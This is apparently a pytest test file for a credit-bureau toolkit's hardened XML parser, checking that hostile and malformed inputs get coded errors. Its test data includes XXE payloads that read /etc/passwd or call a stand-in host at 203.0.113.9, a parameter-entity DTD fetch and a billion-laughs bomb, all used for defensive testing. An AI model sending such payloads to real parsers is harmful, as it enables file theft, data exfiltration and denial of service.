"""The hardened XML entry point: every hostile or broken input gets its coded error."""

from __future__ import annotations

import mmap
import random
import tracemalloc
from pathlib import Path

import pytest

from bureau_adapters.exceptions import BureauError, MalformedReportError, UnsafeXMLError
from bureau_adapters.xml import DEFAULT_MAX_DEPTH, parse_xml

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""
XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://203.0.113.9/steal">]><r>&xxe;</r>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.9/evil.dtd"> %p;]><r/>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://203.0.113.9/pboc.dtd"><Document/>"""
PUBLIC_DTD = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"><html/>'
INTERNAL_DTD = b"<!DOCTYPE Document [<!ELEMENT Document ANY>]><Document/>"


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        (XXE_FILE, "XML_EXTERNAL"),
        (XXE_NETWORK, "XML_EXTERNAL"),
        (PARAMETER_ENTITY, "XML_EXTERNAL"),
        (BILLION_LAUGHS, "XML_ENTITY"),
        (EXTERNAL_DTD, "XML_EXTERNAL"),
        (PUBLIC_DTD, "XML_EXTERNAL"),
        (INTERNAL_DTD, "XML_DTD"),
        ('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), "XML_ENCODING"),
        (b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-<a/>', "XML_ENCODING"),
        (b"<a>" + b"<!ENTITY " * 1_000_000, "XML_ENTITY"),  # no quadratic scan
        (b"<a>" + b"<!DOCTYPE " * 1_000_000, "XML_DTD"),
        (b"<a>" * 300 + b"</a>" * 300, "XML_TOO_DEEP"),
        (b"<a>" * 100_000 + b"</a>" * 100_000, "XML_TOO_DEEP"),
        (b'<?xml version="1.0"?><!-- c --><?pi x?>' + BILLION_LAUGHS[22:], "XML_ENTITY"),
        (b"<a/><!DOCTYPE a>", "XML_DTD"),
    ],
    ids=[
        "xxe-file",
        "xxe-network",
        "parameter-entity",
        "billion-laughs",
        "external-dtd",
        "public-dtd",
        "internal-dtd",
        "utf16",
        "utf7-hides-doctype",
        "many-entity-openings",
        "many-doctype-openings",
        "deep-300",
        "deep-100k",
        "doctype-after-comment-and-pi",
        "doctype-after-root",
    ],
)
def test_unsafe_inputs_are_refused_with_their_code(payload: bytes, code: str) -> None:
    with pytest.raises(UnsafeXMLError, match=r".") as info:
        parse_xml(payload)
    assert info.value.code == code
    assert isinstance(info.value, BureauError)


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        (b"", "XML_EMPTY"),
        (b"  \n\t", "XML_EMPTY"),
        (b"<a><b></a>", "XML_SYNTAX"),
        (b"<a>", "XML_SYNTAX"),
        (b"not xml at all", "XML_SYNTAX"),
        ('<?xml version="1.0" encoding="cp500"?><a/>'.encode("cp500"), "XML_SYNTAX"),
        ('<?xml version="1.0" encoding="UTF-8"?><a>张三</a>'.encode("gbk"), "XML_ENCODING"),
    ],
    ids=["empty", "blank", "mismatched", "truncated", "text", "ebcdic", "gbk-declared-utf8"],
)
def test_malformed_inputs_get_their_code(payload: bytes, code: str) -> None:
    with pytest.raises(MalformedReportError, match=r".") as info:
        parse_xml(payload)
    assert info.value.code == code


def test_str_is_refused() -> None:
    with pytest.raises(MalformedReportError, match="must be bytes, got str") as info:
        parse_xml("<a/>")  # type: ignore[arg-type]
    assert info.value.code == "XML_NOT_BYTES"


def test_entities_are_never_expanded_nor_files_read() -> None:
    # The refusal happens on the raw bytes: nothing of /etc/passwd can appear anywhere.
    with pytest.raises(UnsafeXMLError, match="external identifiers") as info:
        parse_xml(XXE_FILE)
    assert "root:" not in str(info.value)


def test_depth_limit_is_a_parameter() -> None:
    nested = b"<a>" * 10 + b"</a>" * 10
    assert parse_xml(nested, max_depth=10).tag == "a"
    with pytest.raises(UnsafeXMLError, match="deeper than the limit of 9") as info:
        parse_xml(nested, max_depth=9)
    assert info.value.fields["limit"] == 9
    assert DEFAULT_MAX_DEPTH == 256  # libxml2's own limit: no extra work by default


def test_size_limit_is_checked_before_parsing() -> None:
    with pytest.raises(UnsafeXMLError, match="exceeds the limit of 10 bytes") as info:
        parse_xml(b"<a>0123456789</a>", max_bytes=10)
    assert info.value.code == "XML_TOO_LARGE"
    assert info.value.fields == {"size": 17, "limit": 10}


def test_200_mb_input_is_refused_without_reading_it(tmp_path: Path) -> None:
    """A 200 MB (sparse, mapped) file is refused by its length: no copy, no parse."""
    path = tmp_path / "huge.xml"
    with path.open("wb") as handle:
        handle.write(b"<a>")
        handle.truncate(200 * 1024 * 1024)
    with path.open("rb") as handle, mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ) as m:
        view = memoryview(m)
        tracemalloc.start()
        try:
            with pytest.raises(UnsafeXMLError, match="209,715,200 bytes exceeds") as info:
                parse_xml(view)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
            view.release()
    assert info.value.code == "XML_TOO_LARGE"
    assert peak < 1_000_000


def test_comments_and_processing_instructions_are_dropped() -> None:
    root = parse_xml(b"<?xml version='1.0'?><a><!-- c --><?pi x?><b>1</b></a>")
    assert [child.tag for child in root] == ["b"]


def test_indentation_is_dropped_and_whitespace_in_values_kept() -> None:
    root = parse_xml(b"<a>\n  <b> </b>\n  <c>x y </c>\n  <d>1<e/> 2 </d>\n</a>")
    assert root.text is None  # indentation between elements is not data
    assert [child.tail for child in root] == [None, None, None]
    assert (root.findtext("b"), root.findtext("c")) == (" ", "x y ")  # values keep theirs
    assert (root.find("d").text, root.find("d/e").tail) == ("1", " 2 ")  # type: ignore[union-attr]


def test_encoding_override_reads_gbk_despite_the_declaration() -> None:
    data = '<?xml version="1.0" encoding="UTF-8"?><a>张三</a>'.encode("gbk")
    assert parse_xml(data, encoding="gb18030").text == "张三"


def test_no_other_module_parses_xml() -> None:
    """bureau_adapters.xml is the toolkit's only XML parser (STYLE.md point 7)."""
    repo = Path(__file__).resolve().parents[2]
    packages = [
        "rating_models",
        "bureau_adapters",
        "credit_limit",
        "model_registry",
        "scoring_service",
    ]
    forbidden = ("fromstring(", "XMLParser(", "etree.parse(", "xml.etree", "minidom", "iterparse(")
    offenders = [
        f"{path.relative_to(repo)}: {needle}"
        for package in packages
        for path in sorted((repo / package).rglob("*.py"))
        if path != repo / "bureau_adapters" / "xml.py"
        for needle in forbidden
        if needle in path.read_text(encoding="utf-8")
    ]
    assert offenders == []


def test_entity_text_in_cdata_is_inert_and_accepted() -> None:
    """Declarations only count where XML allows them: in the prolog."""
    root = parse_xml(b"<a><![CDATA[<!ENTITY x SYSTEM 'file:///etc/passwd'>]]></a>")
    assert root.text == "<!ENTITY x SYSTEM 'file:///etc/passwd'>"


def test_every_document_libxml2_accepts_as_utf8_is_valid_utf8() -> None:
    """bureau_adapters.pboc.envelope.decode_xml relies on it to skip a decoding pass:
    overlong forms, surrogates, code points past U+10FFFF and truncated or stray bytes in
    text, comments, attributes, CDATA, PIs and names are all refused by libxml2."""
    rng = random.Random(7)
    pieces = [bytes([b]) for b in range(0x80, 0x100)] + [
        b"\xe4\xb8\xad", b"\xed\xa0\x80", b"\xef\xbf\xbe", b"\xf4\x90\x80\x80", b"\xc0\x80",
        b"\xe0\x80\x80", b"\xf0\x80\x80\x80", b"\xe4\xb8", b"\xf0\x9f\x98\x80", b"a", b"&",
    ]  # fmt: skip
    templates = [b"<a>%s</a>", b"<a><!--%s--></a>", b'<a x="%s"/>', b"<a><![CDATA[%s]]></a>",
                 b"<a><?p %s?></a>", b"<a%s/>", b"<a><b%s>1</b%s></a>"]  # fmt: skip
    accepted = 0
    for _ in range(20_000):
        body = b"".join(rng.choice(pieces) for _ in range(rng.randint(1, 4)))
        doc = rng.choice(templates).replace(b"%s", body)
        try:
            parse_xml(doc)
        except BureauError:
            continue
        accepted += 1
        doc.decode("utf-8")  # raises (and fails the test) for a counterexample
    assert accepted > 500
